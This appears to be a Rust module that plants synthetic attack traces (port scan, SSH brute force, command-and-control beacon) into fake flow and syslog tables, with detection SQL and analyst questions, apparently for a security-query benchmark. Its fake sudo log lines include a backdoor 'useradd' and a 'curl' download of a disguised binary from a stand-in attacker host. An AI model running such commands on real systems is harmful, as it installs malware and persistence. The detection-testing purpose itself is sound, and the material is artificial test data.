//! The bastion falls.

use super::{Attack, BASTION, C2, Planter, SSH_GUESSER};
use crate::org::{PROD, ip};
use crate::sources::syslog::{Line, SSHD, SUDO, dotted};
use crate::sources::vpc_flow::Flow;

pub const PORT_SCAN: Attack = Attack {
    title: "A port scan",
    when: "22 hours 40 minutes before the end",
    tables: &["vpc_flow"],
    actor: "-",
    address: "198.51.100.88 (RU)",
    what: "1,200 rejected connections to ever higher ports of the production subnet within ten minutes.",
    sql: "SELECT src_ip, count(DISTINCT dst_port) AS ports, count(*) AS flows FROM vpc_flow\nWHERE action = 'REJECT' GROUP BY src_ip HAVING count(DISTINCT dst_port) > 20 ORDER BY ports DESC",
    question: Some("who is port scanning us?"),
    plant: port_scan,
};

fn port_scan(planter: &mut Planter) {
    let probes = planter.burst(1200);
    for index in 0..probes {
        let at = planter.spread(22 * 60 + 40, 22 * 60 + 30, index, probes);
        let target = if index % 3 == 0 { BASTION } else { ip(10, 20, 4, 11 + (index % 3) as u8) };
        let accepted = target == BASTION && index == 21;
        let port = if accepted { 22 } else { 1 + index * 7 % 9973 };
        let source = (SSH_GUESSER, 40_000 + index % 20_000);
        planter.flow(&Flow {
            at,
            account: PROD,
            interface: target,
            src: source,
            dst: (target, port),
            protocol: 6,
            packets: 1,
            bytes: 44,
            seconds: 1,
            accepted,
        });
    }
}

pub const SSH_BRUTE_FORCE: Attack = Attack {
    title: "ssh passwords are guessed until one fits",
    when: "22 hours to 21 hours 35 minutes before the end",
    tables: &["syslog", "vpc_flow"],
    actor: "deploy on bastion-1",
    address: "198.51.100.88 (RU)",
    what: "300 failed passwords on bastion-1, one accepted for deploy, then sudo to a root shell and a new user.",
    sql: "SELECT host, count(*) FILTER (WHERE message LIKE 'Failed password%') AS failed,\n       count(*) FILTER (WHERE message LIKE 'Accepted password%') AS accepted\nFROM syslog WHERE program = 'sshd' AND message LIKE '%198.51.100.88%' GROUP BY host",
    question: Some("ssh brute force: top 5 attacker ips in syslog last 30 days"),
    plant: ssh_brute_force,
};

fn ssh_brute_force(planter: &mut Planter) {
    const GUESSES: &[&str] =
        &["root", "invalid user admin", "deploy", "invalid user ubuntu", "invalid user oracle", "root", "deploy"];
    let from = dotted(SSH_GUESSER);
    let attempts = planter.burst(300);
    for index in 0..attempts {
        let at = planter.spread(22 * 60, 21 * 60 + 42, index, attempts);
        let guess = GUESSES[index as usize % GUESSES.len()];
        let port = 41_000 + index;
        ssh(planter, at, 21_000 + index, &format!("Failed password for {guess} from {from} port {port} ssh2"));
        if index % 5 == 0 {
            ssh_flow(planter, at, port);
        }
    }
    let at = planter.before(21 * 60 + 40);
    ssh(planter, at, 22_400, &format!("Accepted password for deploy from {from} port 41999 ssh2"));
    ssh_flow(planter, at, 41_999);
    let session = "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)";
    ssh(planter, at + 200_000, 22_400, session);
    for (minutes, command) in [
        (21 * 60 + 39, "/bin/bash"),
        (21 * 60 + 37, "/usr/sbin/useradd -m -G sudo sysupdate"),
        (21 * 60 + 35, "/usr/bin/curl -o /usr/local/bin/kworkerd http://192.0.2.143:8443/k"),
    ] {
        let message = format!("deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND={command}");
        let at = planter.before(minutes);
        planter.line(&Line { at, priority: SUDO, host: "bastion-1", program: "sudo", pid: None, message: &message });
    }
}

fn ssh(planter: &mut Planter, at: i64, pid: u64, message: &str) {
    planter.line(&Line { at, priority: SSHD, host: "bastion-1", program: "sshd", pid: Some(pid), message });
}

fn ssh_flow(planter: &mut Planter, at: i64, port: u64) {
    planter.flow(&Flow {
        at,
        account: PROD,
        interface: BASTION,
        src: (SSH_GUESSER, port),
        dst: (BASTION, 22),
        protocol: 6,
        packets: 18,
        bytes: 3_942,
        seconds: 4,
        accepted: true,
    });
}

pub const BEACON: Attack = Attack {
    title: "The bastion calls home",
    when: "from 21 hours 30 minutes before the end, every five minutes",
    tables: &["vpc_flow"],
    actor: "bastion-1 (10.20.1.10)",
    address: "192.0.2.143 (VN), port 8443",
    what: "Small flows of nearly the same size at nearly the same interval: a command-and-control beacon.",
    sql: "SELECT src_ip, dst_ip, dst_port, count(*) AS flows, avg(bytes) AS bytes, stddev(bytes) AS deviation FROM vpc_flow\nWHERE action = 'ACCEPT' AND src_ip LIKE '10.%' AND dst_ip NOT LIKE '10.%'\nGROUP BY src_ip, dst_ip, dst_port HAVING count(*) > 50 ORDER BY deviation LIMIT 5",
    question: Some("where did 10.20.1.10 send traffic in the last 24 hours"),
    plant: beacon,
};

fn beacon(planter: &mut Planter) {
    let calls = planter.burst(258);
    let step = (21 * 60 + 25) / calls as i64;
    for index in 0..calls {
        let jitter = planter.rng.below(9_000_000) as i64;
        let at = planter.before(21 * 60 + 30 - step * index as i64) + jitter;
        let bytes = 1_180 + planter.rng.below(24);
        let source = (BASTION, 50_000 + index);
        planter.flow(&Flow {
            at: at.min(planter.end - 1),
            account: PROD,
            interface: BASTION,
            src: source,
            dst: (C2, 8443),
            protocol: 6,
            packets: 9,
            bytes,
            seconds: 2,
            accepted: true,
        });
    }
}
